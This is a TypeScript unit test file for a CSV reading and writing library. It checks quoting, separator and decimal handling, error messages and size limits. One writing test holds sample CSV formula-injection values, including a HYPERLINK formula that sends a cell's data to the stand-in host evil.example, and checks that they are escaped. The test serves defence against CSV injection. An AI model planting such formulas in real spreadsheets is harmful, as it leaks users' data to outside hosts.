import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { CSV_MAX_BYTES, CsvError, detectSeparator, parseCsvNumber, readCsv, writeCsv } from '../../lib/csv';

describe('lib/csv reading', () => {
  it('reads quoted fields with separators, doubled quotes and line breaks, giving the line each row starts on', () => {
    const t = readCsv('meter,note,kWh\r\n"Flat 3, north","say ""hi""",1.5\r\nm2,"two\r\nlines",2\r\nm3,,3\r\n');
    assert.equal(t.separator, ',');
    assert.deepEqual(t.header, ['meter', 'note', 'kWh']);
    assert.deepEqual(t.rows.map((r) => [r.line, ...r.cells]), [
      [2, 'Flat 3, north', 'say "hi"', '1.5'],
      [3, 'm2', 'two\r\nlines', '2'],
      [5, 'm3', '', '3'],
    ]);
  });

  it('takes the separator from the header line outside quotes, drops a BOM and skips blank and comment lines', () => {
    assert.equal(detectSeparator('"a,b";c;d\n1,5;2;3'), ';');
    assert.equal(detectSeparator('a\tb\tc'), '\t');
    assert.equal(detectSeparator('# x,y,z\nstart;end', '#'), ';');
    assert.equal(detectSeparator('single'), ',');
    const t = readCsv('\ufeff# exported 2026-04-08\n\nZähler;Menge\n\n"Wohnung 3; Nord";1.234,56\n;\n', { comment: '#' });
    assert.equal(t.separator, ';');
    assert.deepEqual(t.header, ['Zähler', 'Menge'], 'no BOM glued to the first column name');
    assert.equal(t.headerLine, 3);
    assert.deepEqual(t.rows, [{ line: 5, cells: ['Wohnung 3; Nord', '1.234,56'] }], 'the line of only separators counts as blank');
    assert.equal(readCsv(Buffer.from('\ufeffa;b\r\n1;2\r\n')).rows[0].cells[1], '2', 'bytes are read as UTF-8');
  });

  it('reads decimal commas only when told, and point decimals otherwise', () => {
    const dc = { decimalComma: true };
    assert.equal(parseCsvNumber('1.234,56', dc), 1234.56);
    assert.equal(parseCsvNumber('0,1234', dc), 0.1234);
    assert.equal(parseCsvNumber('-12,5', dc), -12.5);
    assert.equal(parseCsvNumber('1 234 567,8', dc), 1234567.8);
    assert.equal(parseCsvNumber('42', dc), 42);
    assert.equal(parseCsvNumber('1.5', dc), undefined, 'a dot is a thousands separator there, so 1.5 is no number');
    assert.equal(parseCsvNumber('12.34.5', dc), undefined);
    assert.equal(parseCsvNumber('1234.56'), 1234.56);
    assert.equal(parseCsvNumber('-0.5'), -0.5);
    assert.equal(parseCsvNumber('0,5'), undefined);
    assert.equal(parseCsvNumber('four'), undefined);
  });

  it('names the line of broken quoting', () => {
    assert.throws(() => readCsv('a,b\n1,2\n"open,3\n4,5\n'), (e: unknown) => {
      assert.ok(e instanceof CsvError);
      assert.match(e.message, /^line \d+: a quoted field is not closed/);
      return true;
    });
    assert.throws(() => readCsv('a,b\n"x"y,2\n'), /^CsvError: line 2: a quoted field goes on after its closing quote/);
    assert.throws(() => readCsv('\ufeff\n# only a comment\n', { comment: '#' }), /CSV is empty/);
  });

  it('bounds the input: bytes and rows, with defaults', () => {
    const rows = (n: number) => 'a,b\n' + Array.from({ length: n }, (_, i) => `${i},x`).join('\n');
    assert.equal(readCsv(rows(3), { maxRows: 3 }).rows.length, 3);
    assert.throws(() => readCsv(rows(4), { maxRows: 3 }), /^CsvError: CSV has too many rows: more than 3 after the header/);
    assert.throws(() => readCsv('a,b\n1,€\n', { maxBytes: 8 }), /CSV is too large: 10 bytes, at most 8 are read/, '€ counts three bytes');
    assert.equal(CSV_MAX_BYTES, 32 * 1024 * 1024);
    assert.throws(() => readCsv('x'.repeat(CSV_MAX_BYTES + 1)), /CSV is too large: at least 33554433 bytes, at most 33554432 are read/);
  });
});

describe('lib/csv writing', () => {
  it('quotes as RFC 4180 with one line end, guards formulas and leaves numbers alone', () => {
    const text = writeCsv(['meter', 'amount', 'note'], [
      ['Flat 3, north', -12.5, '=HYPERLINK("http://evil.example/?d="&A1,"click")'],
      ['m2', '-2.40', 'two\nlines'],
      ['@SUM(A1)', 0, '+1+cmd'],
      { meter: '\tTAB', amount: 3, note: undefined },
    ]);
    assert.equal(text, [
      'meter,amount,note',
      '"Flat 3, north",-12.5,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")"',
      'm2,-2.40,"two\nlines"',
      "'@SUM(A1),0,'+1+cmd",
      "'\tTAB,3,",
      '',
    ].join('\r\n'));
    // read back as a spreadsheet would: the formula is text, the amount a plain number
    const back = readCsv(text);
    assert.equal(back.rows[0].cells[2], '\'=HYPERLINK("http://evil.example/?d="&A1,"click")');
    assert.equal(back.rows[0].cells[1], '-12.5');
    assert.equal(back.rows[1].cells[2], 'two\nlines');
  });

  it('writes semicolons and LF when asked', () => {
    assert.equal(writeCsv(['a', 'b'], [['x;y', 'p,q'], [true, null]], { separator: ';', eol: '\n' }), 'a;b\n"x;y";p,q\ntrue;\n');
  });
});
